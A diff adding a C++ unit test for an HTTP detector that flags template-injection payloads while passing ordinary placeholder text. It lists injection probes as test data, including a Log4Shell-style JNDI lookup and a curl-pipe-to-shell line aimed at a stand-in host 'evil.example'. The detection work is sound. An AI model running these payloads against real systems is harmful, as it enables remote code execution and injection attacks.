@@ -122,6 +122,25 @@ TEST(HttpFeatures, V2TraversalAndSystemPathsWidenTheGate) {
   }
 }
 
+TEST(HttpFeatures, TemplateExpressionsAreAStructureAndPlaceholdersAreNot) {
+  for (const char* attack :
+       {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "${jndi:ldap://evil.example/a}",
+        "{{config.items()}}", "{{ ''.__class__ }}", "x %7B%7B7*7%7D%7D y"}) {
+    EXPECT_TRUE(HasTemplateExpression(attack)) << attack;
+    EXPECT_TRUE(HasAttackStructure(attack)) << attack;
+  }
+  for (const char* prose :
+       {"costs ${5} co-pay", "Hello {{name}}", "{{ user.name }}", "#{count} readings",
+        "Cost was ${12.50}", "<% normal %>", "{{ }}", "{8 of 10}", "100% {adherence}",
+        "{{unclosed 7*7", "${5} and then 7*7}"}) {
+    EXPECT_FALSE(HasTemplateExpression(prose)) << prose;
+    EXPECT_FALSE(HasAttackStructure(prose)) << prose;
+  }
+  // "${" is no longer a command substitution for the gate; "$(" still is.
+  EXPECT_TRUE(HasAttackStructure("$(curl http://evil.example/x.sh | sh)"));
+  EXPECT_FALSE(HasAttackStructure("Budget ${40} or less"));
+}
+
 TEST(HttpFeatures, V1LayoutIsAPrefixOfV2) {
   const auto& schema = HttpFeatureSchema();
   ASSERT_GT(schema.size(), kHttpV1FeatureCount);
